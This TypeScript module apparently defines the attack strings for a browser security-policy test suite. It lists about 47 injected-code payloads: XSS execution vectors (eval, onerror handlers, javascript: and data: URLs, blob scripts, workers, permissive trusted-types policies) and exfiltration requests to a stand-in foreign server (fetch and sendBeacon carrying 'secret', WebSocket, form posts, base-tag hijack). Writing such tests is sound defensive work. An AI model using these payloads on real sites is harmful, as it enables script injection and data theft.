/** What code that got into the page would try. */
export interface Attack {
  readonly name: string;
  /** Script text; it has succeeded when `hit(name)` is called or the foreign server is asked for something with `name` in
   *  its path. */
  readonly code: (foreign: string) => string;
}

const hit = (name: string): string => `hit(${JSON.stringify(name)})`;
const attack = (name: string, code: (foreign: string, hit: string) => string): Attack => ({
  name,
  code: (foreign) => code(foreign, hit(name)),
});
const element = (tag: string, attributes: string): string =>
  `{ const e = document.createElement("${tag}"); ${attributes}; document.body.append(e); }`;
const quoted = JSON.stringify;

/** Ways to run code. */
const scripts: readonly Attack[] = [
  attack("eval", (_, run) => `(0, eval)(${quoted(run)})`),
  attack("new-function", (_, run) => `new Function(${quoted(run)})()`),
  attack("timer-text", (_, run) => `setTimeout(${quoted(run)}, 0)`),
  attack("inline-script", (_, run) => element("script", `e.text = ${quoted(run)}`)),
  attack("script-child", (_, run) => element("script", `e.append(${quoted(run)})`)),
  attack(
    "inner-html",
    (_, run) => `document.body.innerHTML += '<img src=x onerror=${quoted(run)}>'`,
  ),
  attack("insert-html", (_, run) => {
    const html = `<img src=x onerror='${run}'>`;
    return `document.body.insertAdjacentHTML("beforeend", ${quoted(html)})`;
  }),
  attack("write", (_, run) => `document.write(${quoted(`<script>${run}</` + "script>")})`),
  attack("fragment", (_, run) => {
    const html = `<img src=x onerror='${run}'>`;
    return `document.body.append(document.createRange().createContextualFragment(${quoted(html)}))`;
  }),
  attack("parser", (_, run) => {
    const html = `<img src=x onerror='${run}'>`;
    return `document.body.append(...new DOMParser().parseFromString(${quoted(html)}, "text/html").body.childNodes)`;
  }),
  attack("handler-attribute", (_, run) =>
    element("img", `e.setAttribute("onerror", ${quoted(run)}); e.src = "data:,"`),
  ),
  attack("handler-click", (_, run) =>
    element("button", `e.setAttribute("onclick", ${quoted(run)}); setTimeout(() => e.click())`),
  ),
  attack("javascript-link", (_, run) =>
    element("a", `e.href = ${quoted(`javascript:${run}`)}; setTimeout(() => e.click())`),
  ),
  attack("javascript-frame", (_, run) =>
    element("iframe", `e.src = ${quoted(`javascript:parent.${run}`)}`),
  ),
  attack("srcdoc", (_, run) =>
    element("iframe", `e.srcdoc = ${quoted(`<script>parent.${run}</` + "script>")}`),
  ),
  attack("data-script", (_, run) =>
    element("script", `e.src = ${quoted(`data:text/javascript,${run}`)}`),
  ),
  attack("blob-script", (_, run) =>
    element("script", `e.src = URL.createObjectURL(new Blob([${quoted(run)}]))`),
  ),
  attack(
    "data-import",
    (_, run) => `import(${quoted(`data:text/javascript,${run}`)}).catch(() => {})`,
  ),
  attack("foreign-script", (foreign) => element("script", `e.src = "${foreign}foreign-script.js"`)),
  attack("foreign-import", (foreign) => `import("${foreign}foreign-import.js").catch(() => {})`),
  attack("string-worker", (foreign) => `new Worker("${foreign}string-worker.js")`),
  attack("own-string-worker", (_, run) => `{ new Worker("icon.svg"); ${run} }`),
  attack("blob-worker", (_, run) => {
    const code = `postMessage(1)`;
    return `{ const w = new Worker(URL.createObjectURL(new Blob([${quoted(code)}]))); w.onmessage = () => ${run}; }`;
  }),
  attack("shared-worker", (_, run) => `{ new SharedWorker("icon.svg"); ${run} }`),
  attack(
    "service-worker-text",
    (_, run) =>
      `navigator.serviceWorker.register("service-worker.js?x").then(() => ${run}, () => {})`,
  ),
  attack(
    "policy",
    (_, run) => `{ trustedTypes.createPolicy("default", { createHTML: (x) => x }); ${run} }`,
  ),
  attack(
    "policy-again",
    (_, run) =>
      `{ trustedTypes.createPolicy("worker-url", { createScriptURL: (x) => x }); ${run} }`,
  ),
];

/** Ways to send or fetch something. */
const requests: readonly Attack[] = [
  attack("fetch", (foreign) => `fetch("${foreign}fetch").catch(() => {})`),
  attack(
    "fetch-opaque",
    (foreign) =>
      `fetch("${foreign}fetch-opaque", { mode: "no-cors", method: "POST", body: "secret" }).catch(() => {})`,
  ),
  attack(
    "xhr",
    (foreign) => `{ const x = new XMLHttpRequest(); x.open("GET", "${foreign}xhr"); x.send(); }`,
  ),
  attack("web-socket", (foreign) => `new WebSocket("${foreign.replace("http", "ws")}web-socket")`),
  attack("event-source", (foreign) => `new EventSource("${foreign}event-source")`),
  attack("beacon", (foreign) => `navigator.sendBeacon("${foreign}beacon", "secret")`),
  attack("image", (foreign) => element("img", `e.src = "${foreign}image"`)),
  attack("picture-style", (foreign) =>
    element("p", `e.style.backgroundImage = "url(${foreign}picture-style)"; e.textContent = "x"`),
  ),
  attack("style-sheet", (foreign) =>
    element("link", `e.rel = "stylesheet"; e.href = "${foreign}style-sheet"`),
  ),
  attack("style-import", (foreign) =>
    element("style", `e.textContent = "@import url(${foreign}style-import)"`),
  ),
  attack("prefetch", (foreign) =>
    element("link", `e.rel = "prefetch"; e.href = "${foreign}prefetch"`),
  ),
  attack("preload", (foreign) =>
    element("link", `e.rel = "preload"; e.as = "script"; e.href = "${foreign}preload"`),
  ),
  attack("manifest", (foreign) =>
    element("link", `e.rel = "manifest"; e.href = "${foreign}manifest"`),
  ),
  attack("font", (foreign) => `new FontFace("x", "url(${foreign}font)").load().catch(() => {})`),
  attack("media", (foreign) => element("video", `e.src = "${foreign}media"`)),
  attack("frame", (foreign) => element("iframe", `e.src = "${foreign}frame"`)),
  attack("object", (foreign) => element("object", `e.data = "${foreign}object"`)),
  attack("embed", (foreign) => element("embed", `e.src = "${foreign}embed"`)),
  attack("form", (foreign) =>
    element("form", `e.action = "${foreign}form"; e.method = "post"; setTimeout(() => e.submit())`),
  ),
  attack(
    "base",
    (foreign, run) =>
      `{ const e = document.createElement("base"); e.href = "${foreign}"; document.head.prepend(e); if (document.baseURI === "${foreign}") ${run}; e.remove(); }`,
  ),
];

export const attacks: readonly Attack[] = [...scripts, ...requests];
